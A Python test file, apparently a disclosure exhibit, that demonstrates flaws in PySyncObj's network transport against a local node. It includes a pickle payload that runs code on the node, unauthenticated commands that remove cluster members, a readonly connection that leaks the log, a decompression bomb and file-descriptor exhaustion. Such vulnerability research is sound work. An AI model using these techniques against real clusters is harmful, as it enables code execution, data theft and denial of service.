"""S6 and the open doors: stock's own transport on loopback, and what anyone may do who reaches its port."""

import logging
import os
import pickle
import resource
import socket
import struct
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

from pysyncobj import SyncObj, SyncObjConf, replicated

logging.disable(logging.CRITICAL)

DEADLINE_S = 20
HOST = "127.0.0.1"


def free_port() -> int:
    with socket.create_server((HOST, 0)) as listener:
        return int(listener.getsockname()[1])


class Node(SyncObj):
    """A real node on loopback; its peers, if any, are played by the exhibit."""

    def __init__(self, peers: int, **conf: object) -> None:
        # PySyncObj dials the peers with smaller addresses: those played here have greater ones, and dial it.
        self.port = free_port()
        self.peers = [f"127.0.0.{number}:{self.port}" for number in range(2, peers + 2)]
        timeouts = {"raftMinTimeout": 500, "raftMaxTimeout": 600, "connectionTimeout": 1000} if peers else {}
        conf = {"autoTick": False, "dynamicMembershipChange": True, **timeouts, **conf}
        super().__init__(f"{HOST}:{self.port}", self.peers, SyncObjConf(**conf))
        self.payments: list[str] = []

    @replicated
    def pay(self, payment: str) -> None:
        self.payments.append(payment)

    def tick_until(self, is_over: Callable[[], bool]) -> None:
        deadline_s = time.monotonic() + DEADLINE_S
        while not is_over():
            assert time.monotonic() < deadline_s, "nothing happened"
            self.doTick(0.005)

    def last_index(self) -> int:
        return int(self._SyncObj__raftLog[-1][1])


class Caller:
    """A connection to the node, speaking its frames: a length, then a compressed pickle."""

    def __init__(self, node: Node, hello: object) -> None:
        self.node = node
        self.socket = socket.create_connection((HOST, node.port), timeout=DEADLINE_S)
        self.socket.setblocking(False)
        self.bytes = b""
        self.received: list[Any] = []
        self.say(hello)

    def say(self, message: object) -> None:
        data = zlib.compress(pickle.dumps(message))
        self.socket.sendall(struct.pack("i", len(data)) + data)

    def hears(self, count: int = 1) -> bool:
        """Whether so many messages have come."""
        with suppress(BlockingIOError):
            self.bytes += self.socket.recv(1 << 20)
        while len(self.bytes) >= 4 and len(self.bytes) >= 4 + struct.unpack("i", self.bytes[:4])[0]:
            size = struct.unpack("i", self.bytes[:4])[0]
            self.received.append(pickle.loads(zlib.decompress(self.bytes[4 : 4 + size])))
            self.bytes = self.bytes[4 + size :]
        return len(self.received) >= count


def append(first: int, last: int) -> dict[str, object]:
    entries = [(b"\1", index, 1) for index in range(first, last + 1)]
    place = {"prevLogIdx": first - 1, "prevLogTerm": 0 if first == 2 else 1}
    return {"type": "append_entries", "term": 1, "commit_index": 1, "entries": entries, **place}


def s6_an_older_connection_is_read_after_a_newer_one() -> None:
    """A reconnecting peer replaces its connection in a table, but the older socket stays in the poller and what it
    still delivers is taken (transport.py, _onIncomingMessageReceived). A frame from before the reconnect arrives after
    those from behind it, and cuts what the follower has acknowledged on the new one.
    """
    node = Node(peers=2)
    older = Caller(node, node.peers[0])
    node.tick_until(lambda: len(node._SyncObj__connectedNodes) == 1)
    newer = Caller(node, node.peers[0])
    newer.say(append(2, 4))
    node.tick_until(newer.hears)
    assert newer.received[0] == {"type": "next_node_idx", "next_node_idx": 5, "reset": False, "success": True}
    assert node.last_index() == 4

    older.say(append(2, 2))
    node.tick_until(lambda: node.last_index() != 4)

    assert node.last_index() == 2


class Intruder:
    def __reduce__(self) -> Any:
        return (Path.write_text, (Path("intruder"), "code of a stranger ran here"))


def open_whoever_reaches_the_port_runs_code() -> None:
    """The first frame of any connection is unpickled before anything is asked (tcp_connection.py:291), and a pickle may
    call anything. Whoever reaches the port owns the node and its books.
    """
    node = Node(peers=2)
    _stranger = Caller(node, Intruder())
    node.tick_until(Path("intruder").exists)

    assert Path("intruder").read_text() == "code of a stranger ran here"


def open_a_stranger_removes_the_members_of_a_cluster() -> None:
    """Utility commands (add, remove, set_version, transfer) are taken from any connection without a word of who asks
    (transport.py, _onUtilityMessage). A stranger leaves a leader without followers: it then acknowledges alone.
    """
    node = Node(peers=2)
    members = [Caller(node, peer) for peer in node.peers]
    node.tick_until(lambda: len(node._SyncObj__connectedNodes) == 2)
    node._SyncObj__raftElectionDeadline = 0
    node.tick_until(lambda: all(member.hears() for member in members))
    members[0].say({"type": "response_vote", "term": 1})
    node.tick_until(lambda: members[0].hears(2))
    members[0].say({"type": "next_node_idx", "next_node_idx": 3, "reset": False, "success": True})
    node.tick_until(lambda: node.raftLastApplied == 2)

    _strangers = [Caller(node, ["remove", peer]) for peer in node.peers]
    node.tick_until(lambda: not node.otherNodes)
    answers: list[int] = []
    node.pay("p0", callback=lambda _, reason: answers.append(reason))
    node.tick_until(lambda: bool(answers))

    assert answers == [0], "0 is SUCCESS"


def open_a_stranger_reads_the_log() -> None:
    """Whoever says "readonly" is sent the log like a follower (transport.py, _onIncomingMessageReceived). All payments
    of all customers are there for anyone on the network.
    """
    node = Node(peers=0)
    node.tick_until(node._isLeader)
    stranger = Caller(node, "readonly")
    node.tick_until(lambda: len(node.readonlyNodes) == 1)
    node.pay("alice pays bob")

    node.tick_until(lambda: stranger.hears() and b"alice pays bob" in pickle.dumps(stranger.received))


def _memory_peak_kib() -> int:
    """The most this process has had in memory. getrusage would also count its parent's, from before the exec."""
    status = Path("/proc/self/status").read_text(encoding="ascii")
    return int(status.partition("VmHWM:")[2].split()[0])


def open_a_small_frame_unpacks_to_any_size() -> None:
    """Frames are decompressed without a limit, before their sender is known (tcp_connection.py:291). A stranger's frame
    of 50 KB takes 50 MB and more; one of half a megabyte takes half a gigabyte, and the node with it.
    """
    packer = zlib.compressobj(9)
    parts = [packer.compress(b"\x80\x04B" + struct.pack("<I", 50 << 20))]
    parts += [packer.compress(bytes(1 << 20)) for _ in range(50)]
    frame = b"".join([*parts, packer.compress(b"."), packer.flush()])
    assert len(frame) < 60_000
    node = Node(peers=2)
    stranger = socket.create_connection((HOST, node.port))
    before_kib = _memory_peak_kib()

    stranger.sendall(struct.pack("i", len(frame)) + frame)
    node.tick_until(lambda: _memory_peak_kib() - before_kib > 50_000)


def open_running_out_of_descriptors_closes_the_port_for_good() -> None:
    """Any error of accept() unbinds the listener (tcp_server.py, __onNewConnection), and nothing binds it again. A
    stranger opens connections until there are no descriptors, goes away, and the node is never reached again.
    """
    node = Node(peers=2)
    callers = [socket.create_connection((HOST, node.port)) for _ in range(4)]
    next_descriptor = os.dup(0)
    os.close(next_descriptor)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (next_descriptor, hard))
    for _ in range(20):
        node.doTick(0.005)
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    for caller in callers:
        caller.close()
    for _ in range(20):
        node.doTick(0.005)

    with socket.socket() as late:
        assert late.connect_ex((HOST, node.port)) != 0
